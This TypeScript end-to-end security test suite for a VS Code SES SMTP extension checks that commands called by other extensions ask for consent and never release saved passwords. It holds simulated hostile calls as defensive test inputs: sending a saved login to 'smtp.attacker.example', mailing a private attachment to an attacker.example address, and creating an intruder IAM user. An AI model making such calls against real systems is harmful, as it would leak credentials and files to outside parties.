// The command surface as another extension sees it (issue #34). The tests call the commands
// through vscode.commands.executeCommand with argument objects: exactly what any other extension
// in the host can do. Without the user's application-scope opt-in
// (sesSmtpToolkit.security.allowUnattendedEffects) every effect shows its consent modal (the test
// host refuses modals, and the refusal quotes the question: that is the modal appearing and being
// dismissed) and nothing happens; no command hands out a saved password, even with the opt-in.
// With the opt-in (user settings, as the e2e entry sets it for the other suites) the same calls run.
import * as vscode from 'vscode';
import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { GetUserCommand, IAMClient } from '@aws-sdk/client-iam';
import {
  CreateSecretCommand,
  DeleteSecretCommand,
  ListSecretsCommand,
  SecretsManagerClient,
} from '@aws-sdk/client-secrets-manager';
import { deriveSmtpPassword } from '../../src/base/password';
import type { CredentialSet } from '../../src/base/credentialSets';
import type { ExplorerNode } from '../../src/features/explorer';
import type { Selection } from '../../src/features/explorer/root';
import {
  activateExtension,
  addFixtureSet,
  allowUnattendedEffects,
  getJson,
  hasBrowser,
  inWorkbench,
  setAwsEndpoint,
  waitUntil,
} from './support';

const env = process.env;
const REGION = env.SES_E2E_SMTP_REGION ?? 'eu-west-1';
const ROOT_KEY = { accessKeyId: 'AKIAPEERROOTEXAMPLE1', secretAccessKey: 'peerRootSecretKeyExample000000000000000' };
const SET = 'security e2e';
const CONSENT = 'Another extension, a task or a keybinding asks SES SMTP Toolkit to: ';

const run = (id: string, args?: unknown): Promise<unknown> =>
  Promise.resolve(vscode.commands.executeCommand(`sesSmtpToolkit.${id}`, args));

/** The call shows the consent modal whose first line starts with `summary` (then refused by the test host). */
async function assertConsentAsked(id: string, args: unknown, summary: RegExp): Promise<void> {
  await assert.rejects(run(id, args), (err: Error) => {
    const at = err.message.indexOf(CONSENT);
    assert.ok(at >= 0, `${id}: expected the consent modal, got: ${err.message}`);
    assert.match(err.message.slice(at + CONSENT.length), summary, `${id}: what the modal says`);
    return true;
  });
}

const received = async (): Promise<Array<{ messageId?: string; to: string[] }>> =>
  getJson(`${env.SES_E2E_FIXTURES_URL}/received`);
const auths = async (): Promise<unknown[]> => getJson(`${env.SES_E2E_FIXTURES_URL}/auth`);
const sesRequests = async (): Promise<string[]> => getJson(`${env.SES_E2E_FIXTURES_URL}/sesapi/requests`);

describe('Security: commands called by another extension', function () {
  this.timeout(120_000);
  let password: string;
  let set: CredentialSet;
  let dir: string;
  let selectionBefore: Selection | undefined;

  const exists = async (name: string): Promise<boolean> => {
    const outcome = (await run('credentials.check', { credentialSet: name, notify: false }).catch(
      (err: Error) => err,
    )) as { ok?: boolean } | Error;
    if (outcome instanceof Error) {
      if (/No credential set is named/.test(outcome.message)) return false;
      throw outcome;
    }
    return true;
  };

  before(async () => {
    if (!env.SES_E2E_SMTP_PORT || !env.SES_E2E_AWS_URL || !env.SES_E2E_SESAPI_URL)
      throw new Error('the e2e fixtures are not running');
    selectionBefore = (await activateExtension()).explorer.selection();
    dir = mkdtempSync(path.join(tmpdir(), 'ses-security-e2e-'));
    password = deriveSmtpPassword(env.SES_E2E_SECRET ?? '', REGION);
    await allowUnattendedEffects(true);
    await run('credentials.delete', { credentialSet: SET, confirm: false }).catch(() => undefined);
    set = await addFixtureSet(SET, { from: 'sender@example.com', region: REGION });
    await allowUnattendedEffects(false);
  });

  after(async () => {
    await allowUnattendedEffects(true);
    for (const name of [SET, 'security e2e renamed', 'security e2e csv'])
      await run('credentials.delete', { credentialSet: name, confirm: false }).catch(() => undefined);
    await (await activateExtension()).testHooks!.selectExplorer(selectionBefore);
    await setAwsEndpoint(undefined);
    rmSync(dir, { recursive: true, force: true });
  });

  describe('without the opt-in', () => {
    before(() => allowUnattendedEffects(false));

    it('the opt-in is read from the user settings only and is off here', () => {
      const inspected = vscode.workspace
        .getConfiguration('sesSmtpToolkit')
        .inspect<boolean>('security.allowUnattendedEffects');
      assert.equal(inspected?.globalValue, false);
    });

    it('Copy Password refuses a caller; the clipboard keeps what it had', async () => {
      await vscode.env.clipboard.writeText('clipboard before');
      await assert.rejects(run('credentials.copyPassword', { credentialSet: SET }), /never hands out a saved password/);
      assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
    });

    it('a bare Copy Password (no argument) copies nothing: it would pick the only saved set unasked', async () => {
      await vscode.env.clipboard.writeText('clipboard before');
      // No argument object: the error goes to a notification, not back to the caller.
      assert.equal(await run('credentials.copyPassword'), undefined);
      assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
    });

    it("a .env CodeLens's argument, taken by another extension, is a caller's for any command", async () => {
      const file = path.join(dir, '.env');
      writeFileSync(
        file,
        `SMTP_HOST=${env.SES_E2E_SMTP_HOST}\nSMTP_PORT=${env.SES_E2E_SMTP_PORT}\nSMTP_USER=${env.SES_E2E_ACCESS_KEY}\nSMTP_PASSWORD=${password}\n`,
      );
      const doc = await vscode.workspace.openTextDocument(file);
      /** The argument object of our first CodeLens on the file, as any extension can get it. */
      const lensArgument = async (): Promise<Record<string, unknown>> => {
        const lenses = await vscode.commands.executeCommand<vscode.CodeLens[]>(
          'vscode.executeCodeLensProvider',
          doc.uri,
        );
        const ours = lenses.filter((l) => l.command?.command.startsWith('sesSmtpToolkit.env.'));
        assert.ok(ours.length > 0, 'the .env file has our CodeLens');
        const arg = ours[0].command!.arguments![0] as Record<string, unknown>;
        assert.equal(typeof arg.uri, 'string');
        delete arg.uri;
        delete arg.block;
        arg.credentialSet = SET;
        return arg;
      };
      await vscode.env.clipboard.writeText('clipboard before');
      await assert.rejects(run('credentials.copyPassword', await lensArgument()), /never hands out a saved password/);
      assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
      await assertConsentAsked(
        'credentials.delete',
        Object.assign(await lensArgument(), { confirm: false }),
        /^Delete the credential set "security e2e"/,
      );
      assert.equal(await exists(SET), true);
    });

    it('a refused rotate does not change the AWS profile remembered for the set', async () => {
      await setAwsEndpoint(env.SES_E2E_AWS_URL);
      try {
        const hooks = (await activateExtension()).testHooks!;
        const before = hooks.rememberedProfile(set.id);
        await assertConsentAsked(
          'credentials.rotate',
          { credentialSet: SET, profile: 'intruder-profile' },
          /^Rotate the access key of "security e2e"/,
        );
        assert.notEqual(before, 'intruder-profile');
        assert.equal(hooks.rememberedProfile(set.id), before);
      } finally {
        await setAwsEndpoint(undefined);
      }
    });

    it('Run Doctor with a saved set and another host is refused: no login is tried', async () => {
      const before = (await auths()).length;
      await assert.rejects(
        run('runDoctor', { credentialSet: SET, host: 'smtp.attacker.example', notify: false }),
        /does not send the saved login of "security e2e" to smtp\.attacker\.example/,
      );
      assert.equal((await auths()).length, before, 'no AUTH reached any server');
    });

    it('Run Doctor with a saved set and another port of its host asks first: no login is tried', async () => {
      const port = Number(env.SES_E2E_SMTP_PORT);
      const before = (await auths()).length;
      await assertConsentAsked(
        'runDoctor',
        { credentialSet: SET, port: 587, portMap: { '587': port + 1 }, notify: false },
        new RegExp(
          `^Log in to ${String(env.SES_E2E_SMTP_HOST).replace(/\./g, '\\.')}:${port + 1} with the saved login of "security e2e"`,
        ),
      );
      assert.equal((await auths()).length, before);
    });

    it('Send Test Email (with an attachment) asks, naming the recipient, and sends nothing', async () => {
      const file = path.join(dir, 'notes.txt');
      writeFileSync(file, 'private notes\n');
      const before = (await received()).length;
      await assertConsentAsked(
        'sendTestEmail',
        {
          credentialSet: SET,
          to: 'someone@attacker.example',
          from: 'sender@example.com',
          attachments: [{ path: file }],
        },
        /^Send a test email to someone@attacker\.example from sender@example\.com/,
      );
      assert.equal((await received()).length, before, 'the server received nothing');
    });

    it('Send Test Email Burst with confirmNonSimulator asks and sends nothing', async () => {
      const before = (await received()).length;
      await assertConsentAsked(
        'sendTestBurst',
        { credentialSet: SET, to: 'someone@attacker.example', count: 2, confirmNonSimulator: true },
        /^Send a burst of 2 test emails to someone@attacker\.example from sender@example\.com/,
      );
      assert.equal((await received()).length, before);
    });

    it('trusting a certificate with {allow: true, confirm: false} asks, naming its SHA-256 fingerprint', async () => {
      await assertConsentAsked(
        'credentials.trustCertificate',
        { credentialSet: SET, allow: true, confirm: false },
        /^Trust the TLS certificate of 127\.0\.0\.1:\d+ for "security e2e" \(SHA-256 ([0-9A-F]{2}:){31}[0-9A-F]{2}\)$/,
      );
      // allow: false (no pin: only what verifies) is safe and never asks; it returns the set as saved.
      const now = (await run('credentials.trustCertificate', { credentialSet: SET, allow: false })) as CredentialSet;
      assert.equal(now.certificateSha256, undefined, 'nothing was pinned');
    });

    it('delete {confirm: false}, forgetAll {confirm: false}, rename and edit ask; the set stays as it was', async () => {
      await assertConsentAsked(
        'credentials.delete',
        { credentialSet: SET, confirm: false },
        /^Delete the credential set "security e2e"/,
      );
      await assertConsentAsked('credentials.forgetAll', { confirm: false }, /^Delete all \d+ saved credential sets/);
      await assertConsentAsked(
        'credentials.rename',
        { credentialSet: SET, newName: 'security e2e renamed' },
        /^Rename the credential set "security e2e" to "security e2e renamed"/,
      );
      await assertConsentAsked(
        'credentials.editSet',
        { credentialSet: SET, port: 2587, from: 'edited@example.com' },
        /^Change port → 2587, from → edited@example\.com of the credential set "security e2e"/,
      );
      assert.equal(await exists(SET), true);
      assert.equal(await exists('security e2e renamed'), false);
    });

    it('imports (CSV, Secrets Manager, SSM) ask before reading anything', async () => {
      const csv = path.join(dir, 'credentials.csv');
      writeFileSync(csv, `Access key ID,Secret access key\n${env.SES_E2E_ACCESS_KEY},${env.SES_E2E_SECRET}\n`);
      await assertConsentAsked(
        'credentials.importCsv',
        { file: csv, region: REGION, name: 'security e2e csv' },
        /^Import SMTP credentials from the file .*credentials\.csv/,
      );
      assert.equal(await exists('security e2e csv'), false);
      await assertConsentAsked(
        'credentials.importSecretsManager',
        { profile: 'e2e', region: REGION, secretId: 'prod/db', mapping: { username: 'DB_PASSWORD' } },
        /^Import SMTP credentials from the Secrets Manager secret prod\/db \(eu-west-1\)/,
      );
      await assertConsentAsked(
        'credentials.importParameterStore',
        { profile: 'e2e', region: REGION, parameter: '/prod/db' },
        /^Import SMTP credentials from the SSM parameter \/prod\/db/,
      );
    });

    it("export under a caller's secret name with overwrite asks; nothing is written to Secrets Manager", async () => {
      await setAwsEndpoint(env.SES_E2E_AWS_URL);
      const sm = new SecretsManagerClient({ region: REGION, endpoint: env.SES_E2E_AWS_URL, credentials: ROOT_KEY });
      try {
        await assertConsentAsked(
          'credentials.exportSecretsManager',
          { credentialSet: SET, profile: 'e2e', region: REGION, secretName: 'victim/secret', overwrite: true },
          /^Export the SMTP password of "security e2e" to AWS Secrets Manager as victim\/secret \(eu-west-1\)/,
        );
        const listed = await sm.send(new ListSecretsCommand({}));
        assert.ok(!(listed.SecretList ?? []).some((s) => s.Name === 'victim/secret'), 'no secret was created');
      } finally {
        sm.destroy();
        await setAwsEndpoint(undefined);
      }
    });

    it('rotate {deleteOldKey: "now"}, deleteOldKey {confirm: false} and createIamUser {confirm: false} ask', async () => {
      await setAwsEndpoint(env.SES_E2E_AWS_URL);
      const iam = new IAMClient({ region: REGION, endpoint: env.SES_E2E_AWS_URL, credentials: ROOT_KEY });
      try {
        await assertConsentAsked(
          'credentials.rotate',
          { credentialSet: SET, profile: 'e2e', deleteOldKey: 'now' },
          /^Rotate the access key of "security e2e"/,
        );
        await assertConsentAsked(
          'credentials.deleteOldKey',
          { credentialSet: SET, profile: 'e2e', confirm: false },
          /^Delete the old access key of "security e2e" in AWS/,
        );
        await assertConsentAsked(
          'credentials.createIamUser',
          { profile: 'e2e', region: REGION, userName: 'security-e2e-intruder', fromPatterns: [], confirm: false },
          /^Create the IAM user "security-e2e-intruder" in AWS/,
        );
        await assert.rejects(
          iam.send(new GetUserCommand({ UserName: 'security-e2e-intruder' })),
          /NoSuchEntity|cannot be found/,
          'no IAM user was created',
        );
      } finally {
        iam.destroy();
        await setAwsEndpoint(undefined);
      }
    });

    describe('the SES Explorer and the exported API', () => {
      let rows: (parent?: ExplorerNode) => Promise<Array<{ label: string; node: ExplorerNode }>>;
      before(async () => {
        await setAwsEndpoint(env.SES_E2E_SESAPI_URL);
        await run('explorer.choose', { profile: 'e2e', regions: ['eu-central-1'] });
        const api = await activateExtension();
        rows = async (parent) =>
          (await api.explorer.getChildren(parent)).map((node) => ({
            label: String(api.explorer.getTreeItem(node).label),
            node,
          }));
      });
      after(() => setAwsEndpoint(undefined));

      it('the API is read-only: no SES client, no select, rows without methods that refuse writes', async () => {
        const api = await activateExtension();
        const explorer = api.explorer as unknown as Record<string, unknown>;
        for (const key of ['ses', 'select', 'refresh', 'regionNode', 'retry'])
          assert.equal(explorer[key], undefined, `api.explorer.${key}`);
        assert.throws(() => Object.assign(api.explorer, { ses: {} }), TypeError);
        const [region] = await rows();
        assert.equal(region.label, 'eu-central-1');
        const node = region.node as unknown as Record<string, unknown>;
        assert.equal(node.load, undefined, 'no methods');
        // The SES client a node holds is a view too: its calls are not reachable.
        const ses = (node.ctx as Record<string, unknown> | undefined)?.ses as Record<string, unknown> | undefined;
        assert.ok(ses, 'the node context is readable');
        assert.equal(ses.deleteIdentity, undefined);
        assert.equal(ses.createIdentity, undefined);
        assert.throws(() => Object.assign(region.node, { confirm: false }), /read-only view/);
      });

      it('deleteIdentity with a row from the API asks, naming identity and region; SES gets no DELETE', async () => {
        const [region] = await rows();
        const identities = await rows(region.node);
        const easy = identities.find((r) => r.label === 'easy.example.com');
        assert.ok(easy, `the identity row (${identities.map((r) => r.label).join(', ')})`);
        const before = (await sesRequests()).length;
        await assertConsentAsked(
          'explorer.deleteIdentity',
          easy.node,
          /^Delete the SES identity easy\.example\.com in eu-central-1/,
        );
        const after = (await sesRequests()).slice(before);
        assert.ok(!after.some((r) => r.startsWith('DELETE')), after.join('\n'));
      });

      it('createIdentity and the DKIM key move {confirm: false} ask; SES gets no POST or PUT', async () => {
        const before = (await sesRequests()).length;
        await assertConsentAsked(
          'explorer.createIdentity',
          { region: 'eu-central-1', identity: 'intruder.example' },
          /^Create the SES identity intruder\.example in eu-central-1/,
        );
        await assertConsentAsked(
          'explorer.upgradeDkimKey',
          { region: 'eu-central-1', identity: { name: 'legacy.example.com' }, confirm: false },
          /^Move the Easy DKIM key of legacy\.example\.com in eu-central-1 to 2048-bit/,
        );
        const after = (await sesRequests()).slice(before);
        // A POST to list-* is a read (SESv2 lists identities with POST); finding the identity may load the region.
        assert.ok(
          !after.some((r) => /^(POST|PUT|DELETE)/.test(r) && !/^POST \/v2\/email\/list-/.test(r)),
          after.join('\n'),
        );
      });
    });

    it("Copy Password from the row's own context menu copies the password (the UI is not a caller)", async function () {
      if (!hasBrowser()) this.skip();
      await vscode.env.clipboard.writeText('clipboard before');
      await vscode.commands.executeCommand('sesSmtpToolkit.credentials.focus');
      const row = `.pane-body .monaco-list-row[aria-label^="${SET}"]`;
      await inWorkbench({ click: row }, { press: 'Shift+F10' });
      await inWorkbench(
        { waitText: { selector: '.monaco-menu', text: 'Copy SMTP Password', timeoutMs: 15_000 } },
        { click: '.monaco-menu .action-item:has-text("Copy SMTP Password")' },
      );
      await waitUntil(
        async () => (await vscode.env.clipboard.readText()) === password,
        'the password on the clipboard',
      );
      await vscode.env.clipboard.writeText('');
    });

    it('an instance of another class is refused, not taken for a tree item', async () => {
      class CredentialNode {
        set = { id: 'whatever' };
        confirm = false;
      }
      await assert.rejects(
        run('credentials.delete', new CredentialNode()),
        /must be plain data \(a JSON object such as .*\), not an instance of CredentialNode/,
      );
      assert.equal(await exists(SET), true);
    });
  });

  describe('with the opt-in in the user settings', () => {
    before(() => allowUnattendedEffects(true));

    it('Copy Password still refuses a caller, and Run Doctor still keeps the login to its own host', async () => {
      await vscode.env.clipboard.writeText('clipboard before');
      await assert.rejects(run('credentials.copyPassword', { credentialSet: SET }), /never hands out a saved password/);
      assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
      await assert.rejects(
        run('runDoctor', { credentialSet: SET, host: 'smtp.attacker.example', notify: false }),
        /does not send the saved login/,
      );
    });

    it('the same Send Test Email runs: the server receives it', async () => {
      const report = (await run('sendTestEmail', {
        credentialSet: SET,
        to: 'success@simulator.amazonses.com',
        from: 'sender@example.com',
      })) as { ok: boolean; messageId?: string };
      assert.equal(report.ok, true);
      assert.ok((await received()).some((m) => m.messageId === report.messageId));
      assert.ok(!JSON.stringify(report).includes(password), 'the report holds no password');
    });

    it('trustCertificate {allow: true, confirm: false}, rename and delete {confirm: false} run', async () => {
      const trusted = (await run('credentials.trustCertificate', {
        credentialSet: SET,
        allow: true,
        confirm: false,
      })) as CredentialSet;
      assert.match(trusted.certificateSha256 ?? '', /^([0-9A-F]{2}:){31}[0-9A-F]{2}$/);
      const back = (await run('credentials.trustCertificate', { credentialSet: SET, allow: false })) as CredentialSet;
      assert.equal(back.certificateSha256, undefined);
      const renamed = (await run('credentials.rename', {
        credentialSet: set.id,
        newName: 'security e2e renamed',
      })) as CredentialSet;
      assert.equal(renamed.name, 'security e2e renamed');
      assert.equal(await run('credentials.delete', { credentialSet: set.id, confirm: false }), true);
      assert.equal(await exists('security e2e renamed'), false);
    });

    it('a set imported from Secrets Manager by a caller: its password cannot be read back', async () => {
      await setAwsEndpoint(env.SES_E2E_AWS_URL);
      const sm = new SecretsManagerClient({ region: REGION, endpoint: env.SES_E2E_AWS_URL, credentials: ROOT_KEY });
      const marker = deriveSmtpPassword('securityE2eMarkerSecretKey00000000000000', REGION);
      try {
        await sm.send(
          new CreateSecretCommand({
            Name: 'security-e2e/app',
            SecretString: JSON.stringify({ SMTP_USERNAME: env.SES_E2E_ACCESS_KEY, SMTP_PASSWORD: marker }),
          }),
        );
        const imported = (await run('credentials.importSecretsManager', {
          profile: 'e2e',
          region: REGION,
          secretId: 'security-e2e/app',
          name: 'security e2e imported',
          smtpRegion: REGION,
        })) as CredentialSet;
        assert.ok(!JSON.stringify(imported).includes(marker), 'the import returns no password');
        await vscode.env.clipboard.writeText('clipboard before');
        await assert.rejects(
          run('credentials.copyPassword', { credentialSet: imported.id }),
          /never hands out a saved password/,
        );
        assert.equal(await vscode.env.clipboard.readText(), 'clipboard before');
        await run('credentials.delete', { credentialSet: imported.id, confirm: false });
      } finally {
        await sm
          .send(new DeleteSecretCommand({ SecretId: 'security-e2e/app', ForceDeleteWithoutRecovery: true }))
          .catch(() => undefined);
        sm.destroy();
        await setAwsEndpoint(undefined);
      }
    });

    it('the CSV import runs', async () => {
      const csv = path.join(dir, 'credentials.csv');
      writeFileSync(csv, `Access key ID,Secret access key\n${env.SES_E2E_ACCESS_KEY},${env.SES_E2E_SECRET}\n`);
      const sets = (await run('credentials.importCsv', {
        file: csv,
        region: REGION,
        name: 'security e2e csv',
      })) as CredentialSet[];
      assert.equal(sets.length, 1);
      assert.equal(sets[0].name, 'security e2e csv');
    });
  });
});
